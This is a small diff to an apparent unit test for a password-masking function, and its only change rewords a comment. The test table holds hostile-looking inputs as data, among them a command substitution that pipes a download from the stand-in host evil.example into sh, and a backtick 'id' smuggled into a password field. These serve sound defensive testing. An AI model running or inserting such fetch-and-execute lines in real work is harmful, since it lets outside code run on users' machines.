@@ -108,7 +108,7 @@ TEST_CASE("passwords in verbatim text are masked") {
            {"--token=${TOKEN:-canary}", "--token=${TOKEN:-***}"},
            {"postgres://u:${PW:-canary}@h/db", "postgres://u:${PW:-***}@h/db"},
            {"postgres://u:pre${PW}@h/db", "postgres://u:***${PW}@h/db"},
-           // Text that may be run or opened is shown.
+           // Text that may be run or opened is shown unmasked.
            {"TOKEN=$(curl evil.example|sh) x", "TOKEN=$(curl evil.example|sh) x"},
            {"password=`id` x", "password=`id` x"},
            {"--key=./id.pem", "--key=./id.pem"},
